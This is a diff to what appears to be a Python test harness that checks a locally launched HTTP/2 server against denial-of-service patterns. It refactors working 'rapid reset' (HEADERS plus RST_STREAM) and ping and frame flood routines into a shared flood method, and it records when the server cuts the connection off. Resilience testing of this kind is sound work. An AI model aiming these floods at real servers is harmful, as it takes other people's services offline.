@@ -79,6 +79,7 @@ class Server:
     cert: Path
     key: Path
     proc: subprocess.Popen[bytes]
+    log: Path
 
     def cpu(self) -> float:
         fields = Path(f"/proc/{self.pid}/stat").read_text().rsplit(")", 1)[1].split()
@@ -92,6 +93,13 @@ class Server:
 
     def alive(self) -> bool:
         return self.proc.poll() is None
+
+    def protocol_errors(self) -> list[str]:
+        """Why the server cut connections off, from its log (what it read is counted there,
+        not in what the attacker's socket took)."""
+        lines = self.log.read_text(errors="replace").splitlines()
+        errors = [line for line in lines if "HTTP/2 protocol error" in line]
+        return [line.split(": ", 1)[-1] for line in errors if not line.startswith("{")]
 
 
 def free_port() -> int:
@@ -137,7 +145,15 @@ def running_server(pythonpath: str | None) -> Iterator[Server]:
                 time.sleep(0.1)
             else:
                 raise RuntimeError("the server did not start within 30 s")
-            yield Server(proc.pid, port, pki / "ca.pem", pki / "admin.pem", pki / "admin.key", proc)
+            yield Server(
+                proc.pid,
+                port,
+                pki / "ca.pem",
+                pki / "admin.pem",
+                pki / "admin.key",
+                proc,
+                Path(tmp) / "server.log",
+            )
         finally:
             proc.terminate()
             try:
@@ -251,6 +267,7 @@ def measure(
         "legit_errors": legit.errors,
         "legit_slowest_ms": round(legit.slowest * 1000, 1),
         "server_alive": server.alive(),
+        "server_cut_off": server.protocol_errors()[:3],
     }
 
 
@@ -321,6 +338,29 @@ class Raw:
                 self.send(frame(SETTINGS, ACK, 0))
             buf = buf[9 + length :]
         self._buf = buf
+
+    def flood(self, batch: Callable[[int], bytes], size: int, most: int, seconds: float) -> int:
+        """Send ``batch(sent)`` (``size`` units each) until ``most`` units are sent, the
+        server says GOAWAY or cuts us off, or ``seconds`` pass; then close. Returns how many
+        units were sent (what the socket took: the server may have read fewer)."""
+        sent = 0
+        began = time.monotonic()
+        while sent < most and time.monotonic() - began < seconds:
+            if not self.send(batch(sent)):
+                break
+            sent += size
+            self.drain(0)
+            if self.closed_by_server or self.goaway is not None:
+                break
+        self.drain(2)
+        self.close()
+        return sent
+
+    def outcome(self) -> dict[str, Any]:
+        return {
+            "cut_off": self.closed_by_server or self.goaway is not None,
+            "goaway_error": self.goaway,
+        }
 
     def close(self) -> None:
         with contextlib.suppress(OSError):
@@ -494,28 +534,16 @@ def rapid_reset(server: Server, pairs: int = 100_000) -> dict[str, Any]:
     raw = Raw(server)
     raw.drain(1.0)
     block = raw.request_block("Status")
-    began = time.monotonic()
-    sent = 0
-    batch = 500
-    while sent < pairs and time.monotonic() - began < 60:
-        data = b"".join(
-            header_frames(1 + 2 * (sent + i), block, end_stream=False)
-            + frame(RST_STREAM, 0, 1 + 2 * (sent + i), struct.pack(">L", 8))
-            for i in range(batch)
+
+    def pairs_from(first: int) -> bytes:
+        return b"".join(
+            header_frames(1 + 2 * (first + i), block, end_stream=False)
+            + frame(RST_STREAM, 0, 1 + 2 * (first + i), struct.pack(">L", 8))
+            for i in range(100)
         )
-        if not raw.send(data):
-            break
-        sent += batch
-        raw.drain(0)
-        if raw.closed_by_server:
-            break
-    raw.drain(2)
-    raw.close()
-    return {
-        "pairs_sent": sent,
-        "cut_off": raw.closed_by_server or raw.goaway is not None,
-        "goaway_error": raw.goaway,
-    }
+
+    sent = raw.flood(pairs_from, 100, pairs, 60.0)
+    return {"pairs_sent": sent, **raw.outcome()}
 
 
 def ping_flood(server: Server, pings: int = 4_000_000, seconds: float = 30.0) -> dict[str, Any]:
@@ -554,23 +582,8 @@ def frame_flood(server: Server, frames: int = 100_000, seconds: float = 30.0) ->
         + frame(0x2, 0, 3, struct.pack(">LB", 0, 16))  # PRIORITY for an idle stream
         + frame(DATA, 0, 1)
     )
-    batch = mix * 100
-    sent = 0
-    began = time.monotonic()
-    while sent < frames and time.monotonic() - began < seconds:
-        if not raw.send(batch):
-            break
-        sent += 500
-        raw.drain(0)
-        if raw.closed_by_server or raw.goaway is not None:
-            break
-    raw.drain(2)
-    raw.close()
-    return {
-        "frames_sent": sent,
-        "cut_off": raw.closed_by_server or raw.goaway is not None,
-        "goaway_error": raw.goaway,
-    }
+    sent = raw.flood(lambda _: mix * 20, 100, frames, seconds)
+    return {"frames_sent": sent, **raw.outcome()}
 
 
 def alpn(server: Server) -> dict[str, Any]:
